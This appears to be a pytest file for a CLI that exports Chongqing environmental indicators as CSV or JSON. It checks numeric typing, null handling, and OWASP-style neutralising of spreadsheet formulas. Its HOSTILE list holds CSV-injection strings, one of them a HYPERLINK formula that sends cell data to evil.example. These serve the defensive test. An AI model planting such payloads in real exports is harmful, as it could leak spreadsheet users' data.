"""``figures`` and ``status`` with ``--format csv|json`` carry data: numbers as numbers, unit
and qualifier in columns of their own, null for missing; and a CSV is safe to open in a
spreadsheet (OWASP: formula-like text gets a leading quote, numbers stay numbers)."""
from __future__ import annotations

import csv
import io
import json
import subprocess

import pytest
from sqlalchemy import update

from core import schema
from core.formulas import inert
from core.store import Store
from tests.test_cli import EXE, cli_db, run  # noqa: F401 - cli_db is a fixture

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


def records(*args, fmt="json"):
    if fmt == "json":
        return json.loads(run(*args, "--format", fmt).stdout)
    # bytes: text mode would read a carriage return in a cell as a newline
    r = subprocess.run([str(EXE), *args, "--format", fmt], capture_output=True, timeout=120)
    assert r.returncode == 0, r.stderr
    return list(csv.DictReader(io.StringIO(r.stdout.decode("utf-8"), newline="")))


def one(rows, indicator, area="chongqing", period=None):
    return next(r for r in rows if r["indicator"] == indicator and r["area"] == area
                and (period is None or r["period"] == period))


def test_figures_json_has_numbers_units_and_qualifiers(cli_db):
    rows = records("figures", "--db", cli_db)
    share = one(rows, "WATER.STATE_SECTIONS_EXCELLENT", period="2024H1")
    assert (share["value"], share["unit"], share["qualifier"]) == (98.6, "%", None)
    cells = one(rows, "WASTE.ZERO_WASTE_CELLS", period="2025H1")
    assert (cells["value"], cells["unit"], cells["qualifier"]) == (3800, "cells", "more_than")
    assert isinstance(cells["value"], int)
    assert one(rows, "WATER.YANGTZE_MAINSTEM_CLASS", period="2025H1")["value"] == "II"


def test_figures_csv_numbers_are_plain(cli_db):
    rows = records("figures", "--db", cli_db, fmt="csv")
    assert one(rows, "WASTE.ZERO_WASTE_CELLS", period="2025H1")["value"] == "3800"
    assert one(rows, "WATER.STATE_SECTIONS_EXCELLENT", period="2024H1")["value"] == "98.6"
    assert not any("," in r["value"] or "%" in r["value"] for r in rows)


def test_status_json_has_numbers_and_null_for_missing(cli_db):
    rows = records("status", "--db", cli_db)
    share = one(rows, "WATER.STATE_SECTIONS_EXCELLENT")
    assert (share["latest_value"], share["target_comparator"], share["target_value"],
            share["gap"], share["unit"]) == (98.6, ">=", 97.3, 1.3, "%")
    assert share["target_value_high"] is None and share["change"] is None
    cells = one(rows, "WASTE.ZERO_WASTE_CELLS")
    assert (cells["latest_value"], cells["qualifier"], cells["change"]) == (3800, "more_than",
                                                                            2200)
    # a stock against the Beautiful Chongqing plan's 5,000 by 2027: judged at the deadline
    assert (cells["target_value"], cells["gap"], cells["target_period"]) == (5000, -1200, "2027")
    assert (cells["period_status"], cells["period_status_text"]) == ("not_due", "not yet due")
    assert share["gap_text"] == "+1.3 pp" and share["target_kind"] == "national_assessment"
    rivers = one(rows, "WATER.BEAUTIFUL_HAPPY_RIVERS")
    assert rivers["latest_value"] is None and rivers["period_status"] == "no_data"


def test_status_csv_writes_negative_numbers_as_numbers(cli_db):
    out = run("status", "--db", cli_db, "--format", "csv").stdout
    rows = list(csv.DictReader(io.StringIO(out)))
    al = one(rows, "CARBON.RECYCLED_AL_ENERGY", area="hechuan")
    assert (al["latest_value"], al["target_value"], al["gap"], al["gap_pct"]) == (
        "104", "130", "-26", "-20")
    assert ",-26,-20," in out  # a number, not text with a quote before it
    assert one(rows, "WASTE.ZERO_WASTE_CELLS")["change"] == "2200"


@pytest.fixture
def hostile_db(cli_db):
    """Names, a note and a source reference typed as formulas."""
    with Store.open(cli_db) as store, store.write() as conn:
        conn.execute(update(schema.indicators)
                     .where(schema.indicators.c.code == "WATER.STATE_SECTIONS_EXCELLENT")
                     .values(name_en=HOSTILE[0], unit=HOSTILE[3]))
        conn.execute(update(schema.areas).where(schema.areas.c.code == "chongqing")
                     .values(name_en=HOSTILE[1]))
        t = schema.figures
        ids = [r[0] for r in conn.execute(t.select().with_only_columns(t.c.id)
                                          .order_by(t.c.id).limit(len(HOSTILE)))]
        for i, text in zip(ids, HOSTILE):
            conn.execute(update(t).where(t.c.id == i).values(note=text, source_ref=text))
    return cli_db


def test_csv_neutralises_formula_like_text(hostile_db):
    figs = records("figures", "--db", hostile_db, fmt="csv")
    notes = {r["note"] for r in figs}
    assert {"'" + h for h in HOSTILE} <= notes
    assert not [r for r in figs for v in r.values() if v and v[0] in "=+-@\t\r"]
    share = one(figs, "WATER.STATE_SECTIONS_EXCELLENT", area="chongqing", period="2024H1")
    assert (share["name"], share["area_name"], share["unit"]) == (
        "'" + HOSTILE[0], "'" + HOSTILE[1], "'" + HOSTILE[3])
    assert share["value"] == "98.6"
    status = records("status", "--db", hostile_db, fmt="csv")
    assert not [r for r in status for v in r.values() if v and v[0] in "=+-@\t\r"
                and v[0] != "-"]
    negative = [r["gap"] for r in status if r["gap"].startswith(("-", "'-"))]
    assert negative and all(float(g) < 0 for g in negative)  # numbers, never quoted


def test_json_keeps_text_as_typed(hostile_db):
    """JSON is no spreadsheet format: the note is exactly what was typed."""
    notes = {r["note"] for r in records("figures", "--db", hostile_db)}
    assert set(HOSTILE) <= notes


def test_inert_leaves_numbers_and_plain_text_alone():
    assert inert(-3.2) == -3.2 and inert(0) == 0 and inert(None) is None
    assert inert("") == "" and inert("PM2.5 -3%") == "PM2.5 -3%"
    assert [inert(h)[0] for h in HOSTILE] == ["'"] * len(HOSTILE)
